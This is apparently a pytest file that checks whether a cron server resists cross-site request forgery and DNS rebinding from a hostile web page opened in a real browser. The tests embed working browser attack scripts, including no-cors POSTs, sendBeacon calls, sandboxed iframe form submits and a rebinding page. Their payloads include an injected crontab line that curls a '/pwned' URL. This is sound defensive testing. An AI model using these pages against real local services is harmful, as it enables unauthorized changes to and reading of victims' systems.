# SPDX-License-Identifier: MIT
"""A web page of somebody else, in a real browser on the machine of the server: it changes nothing
and reads nothing.

The page tries every way that a browser has of sending a request without asking first, to every
spelling of the server's address, and then asks by its own name after that name was made to lead to
the server (DNS rebinding). A witness which the page asks in the same ways shows that the browser
does send such requests, so that it is the server which refuses them.
"""

import json

import pytest
from harness.browser import Browser, find_browser
from harness.jobs import create_job, expect, list_executions
from harness.sites import Rebinder, Site
from harness.wait import wait_until

PAGE_SECONDS = 30
SECRET = "Bearer sk-live-secret"
NAMES = ("127.0.0.1", "localhost", "a.evil.test", "0.0.0.0")
CHANGES = ("/import", "/jobs", "/jobs/1/trigger", "/jobs/1/pause", "/admin/clock/accept")

# Each way takes the address of a server and the path; what a page can read, it returns.
WAYS = """
const line = "* * * * * curl http://127.0.0.1:4/pwned\\n";
const job = '{"schedule":"* * * * *","api":"http://127.0.0.1:4/pwned"}';
const ways = {
  async plain(base, path) {
    const body = path == "/import" ? line : job;
    await fetch(base + path, {method: "POST", mode: "no-cors", body});
  },
  async form(base, path) {
    const body = new URLSearchParams({a: line});
    await fetch(base + path, {method: "POST", mode: "no-cors", body});
  },
  async bare(base, path) {
    await fetch(base + path, {method: "POST", mode: "no-cors", referrerPolicy: "no-referrer"});
  },
  async beacon(base, path) { navigator.sendBeacon(base + path, line); },
  async json(base, path) {
    const headers = {"Content-Type": "application/json"};
    const answer = await fetch(base + path, {method: "POST", headers, body: job});
    return await answer.text();
  },
  async crontab(base, path) {
    const headers = {"Content-Type": "text/x-crontab"};
    return await (await fetch(base + path, {method: "POST", headers, body: line})).text();
  },
  async remove(base, path) { return await (await fetch(base + path, {method: "DELETE"})).text(); },
  async read(base, path) { return await (await fetch(base + path)).text(); },
  async frame(base, path) {
    // A form in a frame that has no site, so that its Origin is "null".
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms";
    frame.srcdoc = `<form method=post action="${base}${path}"></form>
                    <script>document.forms[0].submit()</` + `script>`;
    const loaded = new Promise(done => { frame.onload = done; });
    document.body.append(frame);
    await loaded;
  },
  async picture(base, path) {
    const picture = new Image();
    const ended = new Promise(done => { picture.onload = picture.onerror = done; });
    picture.src = base + path;
    await ended;
  },
};

async function attempt(way, base, path) {
  try {
    return {way, base, path, text: await ways[way](base, path) ?? null};
  } catch (error) {
    return {way, base, path, error: String(error)};
  }
}

async function report(to, what) {
  await fetch(to + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(what)});
}
"""

FOREIGN = """<!doctype html><title>evil</title><body><script>
%(ways)s
const changes = %(changes)s;
(async () => {
  const found = [];
  for (const base of %(bases)s) {
    for (const path of changes)
      for (const way of ["plain", "form", "bare", "beacon", "json", "crontab"])
        found.push(await attempt(way, base, path));
    found.push(await attempt("remove", base, "/jobs/1"));
    for (const path of ["/jobs", "/jobs/1", "/export"])
      for (const way of ["read", "picture"]) found.push(await attempt(way, base, path));
    for (const path of ["/jobs/1/trigger", "/jobs/1/pause"])
      found.push(await attempt("frame", base, path));
  }
  await report("", found);
})();
</script>"""

REBOUND = """<!doctype html><title>rebound</title><body><script>
%(ways)s
(async () => {
  const found = [];
  for (const path of ["/jobs", "/jobs/1", "/export", "/", "/observability/health"])
    found.push(await attempt("read", "", path));
  for (const path of ["/jobs", "/jobs/1/trigger", "/jobs/1/pause"])
    for (const way of ["json", "bare"]) found.push(await attempt(way, "", path));
  found.push(await attempt("crontab", "", "/import"));
  found.push(await attempt("remove", "", "/jobs/1"));
  await report(%(collector)s, found);
})();
</script>"""


@pytest.fixture
def job(server):
    """The job that the pages are after, on a server of the test's own."""
    if not find_browser():
        pytest.skip("there is no chromium here, so no page was tried; ./dev test installs it")
    headers = {"Authorization": SECRET}
    return create_job(server, "http://127.0.0.1:4/", max_retries=0, headers=headers)


def show(site, url, folder):
    """What the page reports."""
    folder.mkdir()
    with Browser(url, folder):
        wait_until(lambda: site.reports, PAGE_SECONDS, f"{url} has reported")
    return site.reports[0]


def check_untouched(server, job):
    """The job is as it was, is the only one, and never ran."""
    listed = expect(server.get("/jobs"), 200).json["jobs"]
    assert [(j["id"], j["version"], j["is_active"]) for j in listed] == [(job["id"], 1, True)]
    assert list_executions(server, job, status="PENDING") == list_executions(server, job) == []
    assert server.get("/observability/alerts").json["alerts"] == []


def readable(reports):
    """The texts that the page got to see."""
    return [report for report in reports if report.get("text")]


def test_a_page_of_another_site_changes_nothing_and_reads_nothing(server, job, tmp_path):
    with Site() as evil, Site() as witness:
        bases = [f"http://{name}:{port}" for port in (server.port, witness.port) for name in NAMES]
        evil.page = FOREIGN % {
            "ways": WAYS,
            "bases": json.dumps(bases),
            "changes": json.dumps(CHANGES),
        }
        reports = show(evil, f"http://evil.test:{evil.port}/page", tmp_path / "browser")

    check_untouched(server, job)
    own = [report for report in reports if report["base"].endswith(f":{server.port}")]
    assert len(own) > 100
    assert readable(own) == []
    # The browser would have let all of it through, but for what must ask first.
    for name in NAMES:
        sent = {
            (method, path)
            for method, path, headers in witness.visits
            if headers["Host"] == f"{name}:{witness.port}"
        }
        assert {("POST", path) for path in CHANGES} | {("GET", "/export")} <= sent
    assert {headers.get("Origin") for method, _, headers in witness.visits if method == "POST"} == {
        f"http://evil.test:{evil.port}",
        "null",
    }


def test_a_page_whose_name_leads_to_the_server_changes_nothing_and_reads_nothing(
    server, job, tmp_path
):
    with Site() as evil, Rebinder(server.port) as rebinder:
        collector = json.dumps(f"http://evil.test:{evil.port}")
        rebinder.page = REBOUND % {"ways": WAYS, "collector": collector}
        url = f"http://rebind.test:{rebinder.port}/page"
        reports = show(evil, url, tmp_path / "browser")

    check_untouched(server, job)
    assert rebinder.handed_on > 0
    texts = [report["text"] for report in readable(reports)]
    assert len(texts) >= 10  # To the browser it is one site, so the page reads every answer.
    assert {json.loads(text)["status"] for text in texts} == {421}
    assert not any(SECRET in text for text in texts)


# --- Without a browser ---------------------------------------------------------------------------


def test_names_that_are_allowed_are_answered(fleet, database):
    server = fleet.serve(database, "--allowed-hosts", "cron.example,carillon:3000")
    for host in ("cron.example", "cron.example:8080", "carillon:3000", "localhost:9", "[::1]"):
        expect(server.get("/jobs", headers={"Host": host}), 200)
    for host in ("carillon", "evil.example", "192.0.2.7:3000"):
        refused = expect(server.get("/jobs", headers={"Host": host}), 421)
        assert refused.json["type"] == "/problems/misdirected-request"
        assert "--allowed-hosts" in refused.json["detail"]


def test_probes_ask_by_whatever_address_a_machine_has(fleet, database):
    beyond = ("--listen", "0.0.0.0:0", "--insecure-no-auth")
    server = fleet.start("serve", "--db", database, "--log-format", "json", *beyond)
    server.wait_until_listening()
    for path in ("/livez", "/readyz", "/metrics"):
        expect(server.get(path, headers={"Host": "10.42.0.17:3000"}), 200)
    expect(server.get("/livez", headers={"Host": "carillon.default.svc"}), 421)


def test_a_name_that_is_none_is_refused_at_the_start(fleet, database):
    server = fleet.start("serve", "--db", database, "--allowed-hosts", "http://cron.example")
    assert server.wait() == 2
    assert "http://cron.example" in server.log_tail()


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""]
)
def test_what_a_page_may_send_without_asking_is_no_import(server, kind):
    headers = {"Content-Type": kind}
    refused = expect(server.request("POST", "/import", b"@daily curl x", headers), 415)
    assert "text/x-crontab" in refused.json["detail"]
